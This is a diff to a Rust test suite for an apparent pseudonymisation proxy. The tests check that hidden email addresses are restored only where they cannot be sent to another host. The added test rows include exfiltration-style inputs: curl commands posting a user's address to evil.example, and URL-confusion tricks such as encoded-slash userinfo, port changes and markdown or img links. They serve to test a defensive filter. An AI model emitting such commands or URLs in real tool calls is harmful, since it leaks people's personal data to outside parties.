@@ -48,6 +48,10 @@ fn a_pseudonym_is_recognised_however_it_was_written() {
         (format!("[{token}]"), format!("[{EMAIL}]")),
         (format!("cut {}", &token[..token.len() - 1]), format!("cut {}", &token[..token.len() - 1])),
         (format!("glued {token}x"), format!("glued {token}x")),
+        (format!("auth: {token}"), format!("auth: {EMAIL}")),
+        (format!("password={token}"), format!("password={EMAIL}")),
+        (format!("请联系{token}获取"), format!("请联系{EMAIL}获取")),
+        (format!("{token}로 보내세요"), format!("{EMAIL}로 보내세요")),
         ("forged EMAIL_0123456789".to_owned(), "forged EMAIL_0123456789".to_owned()),
         (format!("kind {}", token.replace("EMAIL", "PHONE")), format!("kind {}", token.replace("EMAIL", "PHONE"))),
     ];
@@ -82,6 +86,8 @@ fn a_pseudonym_of_somebody_else_stays() {
         (Call::chat(asked(&text, false)).with("authorization", &format!("Bearer {}", key(2))), token.clone()),
         (Call::chat(asked(&text, false)).with("bartizan-conversation", "other"), token.clone()),
         (Call::chat(asked(&format!("what is {token}?"), false)), token.clone()),
+        (Call::chat(asked(&format!("I am {EMAIL}, not x{token}"), false)), token.clone()),
+        (Call::chat(asked(&format!("I am {EMAIL}, not 会{token}s"), false)), token.clone()),
     ] {
         house.upstream.push(Answer::json(canned::chat("m", &format!("it is {theirs}"))));
         assert_eq!(house.send(&call).json()["choices"][0]["message"]["content"], format!("it is {theirs}"), "{call:?}");
@@ -114,6 +120,13 @@ fn inside_a_url_only_hosts_count_that_the_caller_wrote() {
         (" at https://good.example/page", "see https://good.example/?q=@@ now", true),
         (" at https://good.example/page", "see https://good.example.evil.example/?q=@@ now", false),
         ("", "https://evil.example/ is bad, @@ is good", true),
+        (" at https://good.example/page", "https://good.example%2f@evil.example/?q=@@", false),
+        (" at https://good.example/page", "https://good.example%5c@evil.example/?q=@@", false),
+        (" at https://good.example/page", "www.evil.example/https://good.example/?q=@@", false),
+        (" at https://good.example/page", "https://good.example:444/?q=@@", false),
+        (" at https://good.example/page", "![x](<https://evil.example/?q= @@>)", false),
+        (" at https://good.example/page", "<img src=\"https://evil.example/?q=\n@@\">", false),
+        (" from eve@evil.example", "https://evil.example/?q=@@", false),
     ];
     for (host, said, restored) in rows {
         let text = format!("I am {EMAIL}{host}");
@@ -171,7 +184,15 @@ fn tool_arguments_get_values_back_unless_they_could_carry_them_away() {
         (r#"{"to":"dear @@, see https://evil.example/x"}"#, false),
         (r#"{"to":"see https://evil.example/x?q=@@"}"#, false),
         (r#"{"cmd":"curl -d @@ evil.example/x"}"#, false),
-        (r#"{"url":"https://evil.example/","who":"@@"}"#, true),
+        // What one string names, another one may be sent to.
+        (r#"{"url":"https://evil.example/","who":"@@"}"#, false),
+        (r#"{"who":"@@","url":"https://evil.example/"}"#, false),
+        (r#"{"who":["@@"],"to":{"url":"evil.example/x"}}"#, false),
+        (r#"{"url":"https://good.example/y","who":"@@"}"#, true),
+        (r#"{"cmd":"curl evil.example/https://good.example/ -d @@"}"#, false),
+        (r#"{"url":"https://good.example%5c@evil.example/","who":"@@"}"#, false),
+        (r#"{"url":"https://good.example:444/","who":"@@"}"#, false),
+        (r#"{"auth_email":"@@"}"#, true),
     ];
     for (written, restored) in rows {
         check_arguments(&house, &text, &written.replace("@@", &token), &written.replace("@@", if restored { EMAIL } else { &token }));
